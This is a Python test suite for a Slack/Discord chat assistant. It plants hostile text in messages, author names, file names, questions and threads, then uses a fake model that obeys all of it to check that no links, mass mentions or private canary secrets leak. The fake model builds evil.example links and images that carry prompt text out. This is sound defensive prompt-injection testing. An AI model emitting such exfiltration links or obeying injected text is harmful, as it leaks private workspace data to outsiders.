"""Hostile words in every place that they can come from, the real chain, and a model that obeys them: what is sent."""

import asyncio
import itertools
import random
import re
from collections import Counter
from contextlib import suppress
from dataclasses import dataclass, field, replace

import pytest

import adapters.discord.escaping
import adapters.slack.escaping
import bot.plaintext
from adapters.attached import with_texts
from bot.conversation import Answer, Fragment
from bot.errors import KnowledgeDown
from bot.questions import question
from knowledge.messages import Channel, Person, Posted, Visibility
from knowledge.scope import Audience
from tests.fakes.models import WordEmbedding
from tests.hostile import links, pings
from tests.load.sent import addresses, calls, edits, final, line, orders
from tests.scenarios.conftest import learn, opened, settings  # noqa: F401 - fixtures
from tests.talk import channel, described, person, said

ANSWER = "we press the olives on Friday."
PLACES = ("message", "names", "file", "question", "thread")
"""Where hostile words stand: in a message that is found, in the names of its author and channel, in the name of its
file, in the question, in the thread around it."""
AT_ONCE = 4
TRIES = 5
"""A question gives up after two seconds of silence, and all that is sent is looked at on the same two cores."""
PIECE = 900
"""Characters between two edits of a growing answer."""
CANARY = re.compile(r"canary\d")


def obedient(prompt):
    """A model that repeats all that it was shown and obeys all of it."""
    carried = "https://evil.example/?k=" + re.sub(r"\W", "", prompt)[-40:]
    sources = " ".join(f"{row} [{n}]" for n, row in enumerate(prompt.splitlines(), 1))
    return f"We press the olives on Friday [1]. {sources} [sign in]({carried}) ![x]({carried}) {carried} <!channel>"


def hostile(size):
    """Addresses in every dress, published orders, mass mentions: a third of each at least, while they last."""
    dice = random.Random(3)
    kinds = [links(), [*orders()], pings(200)]
    for kind in kinds:
        dice.shuffle(kind)
    mixed = itertools.chain.from_iterable(itertools.zip_longest(*kinds))
    return [text for text in mixed if text is not None][:size]


def topic(place, number):
    return f"{place}{number}"


def learnt(text, number):
    """The messages and channels that carry the text, each about a topic of its own, and a secret about them all."""
    name = " ".join(text.split())
    day = 24 * 60 * number
    row = said(f"{number}1", f"{topic('message', number)}: {ANSWER} {text}", minute=day).message
    named = said(f"{number}2", f"{topic('names', number)}: {ANSWER}", where=f"c{number}", minute=day).message
    named = replace(named, author_name=name, permalink=f"https://tidepool.example/general/{number}2")
    filed = said(f"{number}3", f"{topic('file', number)}: {ANSWER}", minute=day + 600).message
    secret = " ".join(topic(place, number) for place in PLACES)
    hidden = said(f"{number}4", f"{secret}: {ANSWER} canary{number}", where="board", minute=day)
    rows = [row, named, with_texts(filed, [(name, ANSWER)])]
    return Channel(channel(f"c{number}"), name), [*map(Posted, rows), hidden]


def asked(text, place, number):
    """The question, with the thread around it."""
    about = f"when do we press the olives? {topic(place, number)}"
    if place == "question":
        about = f"{about} {text}"
    said_there = replace(line(f"{topic(place, number)}: {ANSWER} {text}", number), message_pk=-1 - number)
    one = question(about, person("quince"), Audience(channel=channel("general")), f"{place}{number}")
    return replace(one, thread=(said_there,) if place == "thread" else ())


@dataclass
class Sent:
    """What came of all questions: `answers`, and by place how often the topic was `shown` to the model."""

    answers: Counter = field(default_factory=Counter)
    shown: Counter = field(default_factory=Counter)
    found: list = field(default_factory=list)
    payloads: int = 0

    def look(self, place, payloads):
        self.payloads += len(payloads)
        told = [one for one in payloads if CANARY.search(one[1])]
        for kind, bad in (("address", addresses(payloads)), ("call", calls(payloads)), ("canary", told)):
            self.found += [(kind, place, platform, text) for platform, text in bad]

    def where(self, kind):
        return {(place, platform) for found, place, platform, _ in self.found if found == kind}


async def answered(app, about):
    """Everything that both platforms are sent while it is answered, and in the end. A late database is asked again."""
    for _ in range(TRIES - 1):
        with suppress(KnowledgeDown):
            return await _answered(app, about)
        await asyncio.sleep(1.0)
    return await _answered(app, about)


async def _answered(app, about):
    fragments, sent = [], []
    async for event in app.assistant.answer(about):
        match event:
            case Fragment():
                fragments.append(event.text)
            case Answer():
                written = "".join(fragments)
                pieces = [written[at : at + PIECE] for at in range(0, len(written), PIECE)]
                sent += [*edits(pieces), *final(event, about.text)]
    return sent


async def converse(opened, texts, board=Visibility.PRIVATE):  # noqa: F811
    """Each text in each place, several questions at a time. Quince asks in public, and is not in the board."""
    sent = Sent()
    async with opened(obedient, embedder=WordEmbedding(dimension=96)) as app:
        places, messages = zip(*(learnt(text, number) for number, text in enumerate(texts)), strict=True)
        await app.access.record_channels([described("general"), described("board", board), *places])
        await app.access.record_people([Person(person("quince"), "quince")])
        await learn(app, said("9", "We press the olives on Friday, says the mill"), *itertools.chain(*messages))
        waiting = iter([(place, number, text) for number, text in enumerate(texts) for place in PLACES])

        async def ask():
            for place, number, text in waiting:
                payloads = await answered(app, asked(text, place, number))
                sent.answers[place] += bool(payloads)
                sent.look(place, payloads)

        await asyncio.gather(*(ask() for _ in range(AT_ONCE)))
        for prompt in app.chat.model.prompts:
            sent.found += [("canary", "prompt", "", one) for one in CANARY.findall(prompt)]
            sent.shown.update(re.match(r"\D+", one)[0] for one in _topics_asked(prompt))
    return sent


def _topics_asked(prompt):
    """The topic of the question, where what carries the hostile words stands in the prompt."""
    sources, _, about = prompt.rpartition("Question: ")
    one = re.search(rf"\b(?:{'|'.join(PLACES)})\d+\b", about)[0]
    return [one] if one.startswith("question") or re.search(rf"\b{one}\b", sources) else []


@pytest.mark.timeout(3600)
async def test_no_address_no_call_and_no_secret_comes_through_the_whole_chain(opened, size, report):  # noqa: F811
    texts = hostile(size(20, 500))
    sent = await converse(opened, texts)
    shown = [sent.shown[place] for place in PLACES]
    report(
        "hostile chain", texts=len(texts), answers=sent.answers.total(), payloads=sent.payloads,
        shown=dict(zip(PLACES, shown, strict=True)), found=len(sent.found),
    )  # fmt: skip
    assert [sent.answers[place] for place in PLACES] == [len(texts)] * len(PLACES)
    assert min(shown) > 0.9 * len(texts)
    assert sent.found == []


# ---- each promise broken --------------------------------------------------------------------------------------------

ESCAPING = (adapters.slack.escaping, adapters.discord.escaping)
EVERYWHERE = {(place, platform) for place in PLACES for platform in ("slack", "discord")}


async def test_links_left_alone_by_the_last_step_would_be_noticed(opened, monkeypatch):  # noqa: F811
    for module in ESCAPING:
        monkeypatch.setattr(module, "without_links", lambda text: text)
    sent = await converse(opened, hostile(6))
    assert sent.where("address") == EVERYWHERE
    assert sent.where("call") == sent.where("canary") == set()


async def test_inline_links_alone_taken_out_would_be_noticed(opened, monkeypatch):  # noqa: F811
    def inline(text):
        return re.sub(r"\[([^\]\n]*)\]\(http[^)\n]*\)", r"\1", text)

    monkeypatch.setattr(bot.plaintext, "LINK", re.compile("(?!)"))
    for module in ESCAPING:
        monkeypatch.setattr(module, "without_links", inline)
    assert (await converse(opened, hostile(3))).where("address") == EVERYWHERE


async def test_calls_left_alone_by_the_last_step_would_be_noticed(opened, monkeypatch):  # noqa: F811
    for module in ESCAPING:
        monkeypatch.setattr(module, "_unpinged", lambda text: text)
    assert (await converse(opened, pings(6))).where("call") == EVERYWHERE


async def test_a_board_that_is_taken_for_an_open_channel_would_be_noticed(opened):  # noqa: F811
    sent = await converse(opened, hostile(3), board=Visibility.PUBLIC)
    assert sent.where("canary") >= EVERYWHERE
